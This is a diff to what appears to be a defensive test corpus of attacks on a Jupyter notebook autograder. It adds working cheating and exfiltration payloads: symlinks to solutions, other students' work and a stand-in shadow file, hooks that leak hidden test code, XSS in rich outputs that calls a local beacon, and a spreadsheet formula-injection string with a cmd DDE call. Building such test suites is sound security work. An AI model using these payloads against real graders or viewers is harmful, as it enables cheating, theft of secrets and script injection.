@@ -1,10 +1,18 @@
 """A corpus of attacks on the grader, grouped by goal, each appended to lesson 02's first answer cell.
 
 Every attack rides on the same wrong answers (:data:`WRONG`); graded by our grader it must
-score no more than those wrong answers without the attack. ``python -m grader.bench`` also
-counts how many of them fool plain ``nbgrader autograde``.
+score no more than those wrong answers without the attack, and nothing secret may reach its
+feedback, its rows or its autograded notebook. Most attacks are code; a :class:`FolderAttack`
+is also (or only) a shape of the submission folder: links, named pipes, devices.
+``python -m grader.bench`` also counts how many of them fool plain ``nbgrader autograde``
+(with the code alone: the folder is not arranged there).
 """
 from __future__ import annotations
+
+import os
+import stat
+from pathlib import Path
+from typing import Callable
 
 from tests.lessons.wrong_answers.wrong_02_cross_entropy import WRONG_ANSWERS
 
@@ -17,6 +25,96 @@ WRONG = {
     "ex02_5_cross_entropy_grad_answer": WRONG_ANSWERS["ex02_5_cross_entropy_grad_answer"]["forgets to divide by the batch size"],
 }
 CARRIER = "ex02_1_softmax_answer"
+LESSON = "02_cross_entropy"
+# A file outside every submission that only the grader's user can read (a stand-in for /etc/shadow).
+GRADER_SECRET = "grader-only-secret-7f3a9c1e"
+# Where hostile feedback would load things from; tests/grader/test_attacks.py counts the requests.
+BEACON_PORT = 47613
+
+
+class FolderAttack(str):
+    """An attack on how the grader reads the submission folder.
+
+    The string is code appended to the carrier like any attack (often nothing);
+    ``arrange(lesson_folder, batch_root)`` then reshapes the attacker's folder
+    (``<batch_root>/submissions/<student>/<lesson>``) after its notebook was written.
+    """
+
+    arrange: Callable[[Path, Path], None]
+
+    def __new__(cls, code: str, arrange: Callable[[Path, Path], None]) -> "FolderAttack":
+        self = super().__new__(cls, code)
+        self.arrange = arrange
+        return self
+
+
+def _solution(root: Path) -> Path:
+    from grader.course import SOLUTIONS
+
+    return SOLUTIONS / LESSON / f"{LESSON}.ipynb"
+
+
+def _grader_secret(root: Path) -> Path:
+    secret = root / "grader_only" / "shadow"
+    secret.parent.mkdir(mode=0o700, exist_ok=True)
+    secret.write_text(f"root:{GRADER_SECRET}:19000:0:99999:7:::\n")
+    os.chmod(secret, 0o600)
+    return secret
+
+
+def _link(name: str, target: Callable[[Path], Path]) -> Callable[[Path, Path], None]:
+    def arrange(folder: Path, root: Path) -> None:
+        os.symlink(target(root), folder / name)
+    return arrange
+
+
+def _notebook_replaced(make: Callable[[Path, Path], None]) -> Callable[[Path, Path], None]:
+    def arrange(folder: Path, root: Path) -> None:
+        notebook = folder / f"{LESSON}.ipynb"
+        notebook.unlink()
+        make(notebook, root)
+    return arrange
+
+
+def _folder_replaced_by_link_to(student: str, level: str) -> Callable[[Path, Path], None]:
+    def arrange(folder: Path, root: Path) -> None:
+        import shutil
+
+        victim = root / "submissions" / student / (LESSON if level == "lesson" else "")
+        own = folder if level == "lesson" else folder.parent
+        shutil.rmtree(own)
+        os.symlink(victim, own)
+    return arrange
+
+
+def _reference_reports(root: Path) -> Path:
+    from grader.lesson import load_lesson
+    from grader.reference import reference_key
+
+    notebook = load_lesson(LESSON)[0]
+    return root / "graded" / "reference" / f"{LESSON}--{notebook.name}--{reference_key(notebook)[:20]}.json"
+
+
+def _fifo(path: Path, root: Path) -> None:
+    os.mkfifo(path)
+
+
+def _zero_device(path: Path, root: Path) -> None:
+    os.mknod(path, stat.S_IFCHR | 0o644, os.makedev(1, 5))   # what /dev/zero is
+
+
+def _timestamp_link(folder: Path, root: Path) -> None:
+    os.symlink(_grader_secret(root), folder / "timestamp.txt")
+
+# Keeps the source of every test cell as it starts, for the attacks that leak it later.
+STEAL = """
+import builtins as _b
+_b._stolen = []
+def _steal(info):
+    if "__dlcourse_observe__" in (info.raw_cell or ""):
+        _b._stolen.append(info.raw_cell)
+get_ipython().events.register("pre_run_cell", _steal)
+"""
 
 FINDER = """
 import os as _os
@@ -149,6 +247,17 @@ def _clipped(obj, *args, **kwargs):
     return np.clip(out, -50, 50) if out.dtype.kind == "f" else out
 np.array = _clipped
 """,
+    "notebook_links_to_the_solution": FolderAttack("", _notebook_replaced(
+        lambda notebook, root: os.symlink(_solution(root), notebook))),
+    "extra_file_links_to_the_solution": FolderAttack("""
+import json as _json
+for _cell in _json.load(open("solution.json"))["cells"]:
+    _source = "".join(_cell["source"])
+    if _cell["cell_type"] == "code" and "BEGIN SOLUTION" in _source:
+        exec(_source, globals())
+""", _link("solution.json", _solution)),
+    "lesson_folder_links_to_another_student": FolderAttack("", _folder_replaced_by_link_to("honest_1", "lesson")),
+    "student_folder_links_to_another_student": FolderAttack("", _folder_replaced_by_link_to("honest_2", "student")),
     "detects_the_grader_environment": """
 import os, sys
 _grading = ("NBGRADER_EXECUTION" in os.environ or os.getuid() != 0 or "__dlcourse_observe__" in globals()
@@ -175,6 +284,156 @@ for path in _find("02_cross_entropy.ipynb"):
         if "BEGIN SOLUTION" in source and cell.get("cell_type") == "code":
             exec(source.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
 """,
+    "input_history_printed_after_each_cell": """
+get_ipython().events.register("post_run_cell", lambda result: print("\\n".join(get_ipython().user_ns.get("In", []))))
+""",
+    "pre_run_hook_shows_test_sources_as_markdown": STEAL + """
+from IPython.display import Markdown, display
+get_ipython().events.register("post_run_cell", lambda result: display(Markdown("\\n\\n".join(_b._stolen))))
+""",
+    "linecache_dumped_after_each_cell": """
+import linecache, os
+def _dump(result):
+    for name, entry in list(linecache.cache.items()):
+        if not os.path.exists(name) and isinstance(entry, tuple) and len(entry) > 2:
+            print("".join(entry[2]))
+get_ipython().events.register("post_run_cell", _dump)
+""",
+    "caller_frame_read_by_the_answer": """
+import sys, linecache
+_seen = []
+_wrong_softmax = softmax
+def softmax(logits):
+    caller = sys._getframe(1)
+    _seen.append("".join(linecache.getlines(caller.f_code.co_filename)))
+    _seen.append(repr({k: v for k, v in caller.f_locals.items() if k in ("z", "seed", "r")}))
+    return _wrong_softmax(logits)
+get_ipython().events.register("post_run_cell", lambda result: print("\\n".join(_seen[-4:])))
+""",
+    "gc_objects_scanned_for_test_code": """
+import gc
+def _scan(result):
+    for obj in gc.get_objects():
+        if isinstance(obj, list):
+            for item in obj[:1000]:
+                if isinstance(item, str) and "__dlcourse_observe__(" in item:
+                    print(item)
+get_ipython().events.register("post_run_cell", _scan)
+""",
+    "exception_message_is_the_test_source": STEAL + """
+_wrong_softmax = softmax
+def softmax(logits):
+    if _b._stolen:
+        raise ValueError(_b._stolen[-1])
+    return _wrong_softmax(logits)
+""",
+    "exception_type_named_after_the_test": STEAL + """
+_wrong_softmax = softmax
+def softmax(logits):
+    if _b._stolen:
+        lines = [l for l in _b._stolen[-1].splitlines() if "observe" in l or "normal" in l]
+        raise type((lines or ["none"])[0].strip(), (Exception,), {})("")
+    return _wrong_softmax(logits)
+""",
+    "result_type_named_after_the_test": STEAL + """
+_wrong_softmax = softmax
+def softmax(logits):
+    if _b._stolen:
+        lines = [l for l in _b._stolen[-1].splitlines() if "normal" in l]
+        return type((lines or ["none"])[0].strip(), (), {"__repr__": lambda self: _b._stolen[-1]})()
+    return _wrong_softmax(logits)
+""",
+    "answer_prints_while_the_hidden_test_calls_it": """
+import inspect
+_wrong_softmax = softmax
+def softmax(logits):
+    print("input:", repr(logits), "caller:", inspect.stack()[1].code_context)
+    return _wrong_softmax(logits)
+""",
+    "thread_prints_the_history_later": """
+import threading, time
+def _loop():
+    seen = 0
+    while True:
+        history = get_ipython().user_ns.get("In", [])
+        for cell in history[seen:]:
+            print(cell, flush=True)
+        seen = len(history)
+        time.sleep(0.05)
+threading.Thread(target=_loop, daemon=True).start()
+""",
+    "forked_child_prints_the_history_later": """
+import os, sys, time
+def _fork(result):
+    if os.fork() == 0:
+        time.sleep(0.3)
+        print("\\n".join(get_ipython().user_ns.get("In", [])), flush=True)
+        sys.stderr.write("\\n".join(get_ipython().user_ns.get("In", [])))
+        sys.stderr.flush()
+        os._exit(0)
+get_ipython().events.register("post_run_cell", _fork)
+""",
+    "rich_displays_of_the_tests_after_each_cell": STEAL + """
+import json
+from IPython.display import HTML, JSON, Latex, display
+def _show(result):
+    text = "\\n".join(_b._stolen)
+    display(HTML("<pre>" + text + "</pre>"))
+    display(JSON({"tests": _b._stolen}))
+    display(Latex(text))
+    display({"text/plain": text, "application/x-stolen": text}, raw=True)
+get_ipython().events.register("post_run_cell", _show)
+""",
+    "warnings_and_stderr_after_each_cell": STEAL + """
+import sys, warnings
+def _warn(result):
+    for source in _b._stolen:
+        warnings.warn(source)
+        print(source, file=sys.stderr)
+get_ipython().events.register("post_run_cell", _warn)
+""",
+    "hidden_inputs_printed_later": """
+_inputs = []
+_wrong_softmax = softmax
+def softmax(logits):
+    _inputs.append(logits)
+    return _wrong_softmax(logits)
+get_ipython().events.register("post_run_cell", lambda result: print([x.tolist() for x in _inputs[-3:]]))
+""",
+    "expected_values_read_from_failure_details": STEAL + """
+import numpy as np
+_wrong_softmax, _wrong_nll = softmax, nll_loss
+def softmax(logits):
+    return np.zeros_like(logits) if _b._stolen else _wrong_softmax(logits)
+def nll_loss(log_probs, targets):
+    return 0.0 if _b._stolen else _wrong_nll(log_probs, targets)
+""",
+    "shapes_and_keys_read_from_failure_details": STEAL + """
+import numpy as np
+_wrong_softmax = softmax
+def softmax(logits):
+    if not _b._stolen:
+        return _wrong_softmax(logits)
+    return {"probe": 1.0} if len(_b._stolen) % 2 else np.zeros(1)
+""",
+    "extra_file_links_to_a_grader_secret": FolderAttack("""
+print(open("shadow.txt").read())
+""", _link("shadow.txt", _grader_secret)),
+    "extra_file_links_to_the_reference_reports": FolderAttack("""
+import base64, json, numpy as np
+for _grade_id, _reports in json.load(open("reports.json")).items():
+    for _report in _reports:
+        _value = _report.get("value") or {}
+        if "ndarray" in _value:
+            print(_grade_id, [repr(float(x)) for x in np.frombuffer(base64.b64decode(_value["ndarray"]["b64"]),
+                                                                   dtype=_value["ndarray"]["dtype"]).ravel()[:8]])
+""", _link("reports.json", _reference_reports)),
+    "directory_link_to_the_grading_folder": FolderAttack("""
+import os
+for _folder, _dirs, _files in os.walk("graded"):
+    for _name in _files:
+        print(_folder, _name, open(os.path.join(_folder, _name), "rb").read(200))
+""", _link("graded", lambda root: root / "graded")),
 }
 
 # Attacks that try to reach outside the sandbox: the grader's processes, files, network.
@@ -192,8 +451,28 @@ except Exception:
 EXHAUSTION = {
 }
 
-# Attacks that try to stop the batch or change results after the fact.
+# Attacks that try to stop the batch, change results after the fact, or attack whoever opens them.
 INTEGRITY = {
+    "scripts_in_rich_outputs": f"""
+from IPython.display import HTML, SVG, Javascript, Markdown, display
+_beacon = "http://127.0.0.1:{BEACON_PORT}"
+display(HTML("<script>document.title = 'pwned'</script><img src=x onerror=\\"document.title='pwned'\\">"
+             f"<img src='{{_beacon}}/img'><link rel=stylesheet href='{{_beacon}}/css'>"
+             f"<div style=\\"background:url({{_beacon}}/bg)\\">x</div><iframe src='{{_beacon}}/frame'></iframe>"))
+display(Javascript("document.title = 'pwned'; fetch('" + _beacon + "/js')"))
+display(Markdown("<img src=y onerror=\\"document.title='pwned'\\"> [click](javascript:document.title='pwned')"))
+display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\\"document.title='pwned'\\"><script>document.title='pwned'</script></svg>"))
+display({{"text/html": "<meta http-equiv='refresh' content='0;url=" + _beacon + "/refresh'>",
+         "text/plain": "refresh"}}, raw=True)
+""",
+    "formula_in_the_message_column": """
+_wrong_softmax = softmax
+def softmax(logits):
+    raise type('=HYPERLINK("http://127.0.0.1/?leak="&A1,"click")', (Exception,), {})("+cmd|' /C calc'!A0")
+""",
+    "timestamp_links_to_a_grader_secret": FolderAttack("", _timestamp_link),
+    "notebook_is_a_named_pipe": FolderAttack("", _notebook_replaced(_fifo)),
+    "notebook_is_a_device": FolderAttack("", _notebook_replaced(_zero_device)),
     "writes_gradebook_and_results": FINDER + """
 import sqlite3
 for db in _find("gradebook.db", "results.db"):
